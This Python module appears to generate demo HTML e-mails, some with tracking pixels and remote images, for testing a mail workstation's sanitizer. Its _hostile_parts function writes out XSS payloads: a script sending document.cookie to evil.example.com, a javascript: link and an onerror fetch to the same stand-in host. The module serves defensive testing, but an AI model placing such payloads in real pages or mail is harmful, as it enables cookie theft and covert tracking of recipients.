"""HTML bodies of demo e-mails, including the hostile parts real mail carries: tracking
pixels, remote images, scripts and ``javascript:`` links. The workstation must neutralize
all of them."""

from __future__ import annotations

import html
import random

from hub.demo.texts import paragraphs_html


def _tracking_pixel(rng: random.Random) -> str:
    token = "".join(rng.choice("abcdef0123456789") for _ in range(16))
    return (
        f'<img src="https://track.example.com/open.gif?m={token}" width="1" height="1" '
        'alt="" style="display:none">'
    )


def _remote_logo(company: str) -> str:
    return (
        '<p><img src="https://cdn.example.com/signature/logo.png" alt="Logo" width="120"><br>'
        f'<a href="https://www.example.de/">{html.escape(company)}</a></p>'
    )


def _screenshot(rng: random.Random) -> str:
    number = rng.randint(1000, 9999)
    return (
        f'<p><img src="https://img.example.com/uploads/screenshot-{number}.png" '
        'alt="Screenshot der Fehlermeldung" width="640"><br>'
        f'<a href="https://cloud.example.de/s/{number}">Screenshot in voller Größe</a></p>'
    )


def _hostile_parts() -> str:
    return (
        "<style>body{background:url(https://track.example.com/bg.png)}</style>"
        '<script>document.location="https://evil.example.com/?c="+document.cookie</script>'
        '<p><a href="javascript:alert(1)" onclick="steal()">Hier klicken</a></p>'
        '<img src="x" onerror="fetch(\'https://evil.example.com/\')">'
    )


def render_html(paragraphs: list[str], rng: random.Random) -> str:
    """A complete HTML mail for the given paragraphs with a random mix of extras."""
    body = [paragraphs_html(paragraphs)]
    extra = rng.random()
    if extra < 0.35:
        body.append(_tracking_pixel(rng))
    elif extra < 0.6:
        body.append(
            _remote_logo(rng.choice(("Weber Steuerbüro", "Fischer & Koch GbR", "Studio Lange")))
        )
        body.append(_tracking_pixel(rng))
    elif extra < 0.8:
        body.insert(1, _screenshot(rng))
    elif extra < 0.9:
        body.append(_hostile_parts())
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8"></head>'
        '<body style="font-family:Arial,sans-serif">' + "\n".join(body) + "</body></html>"
    )
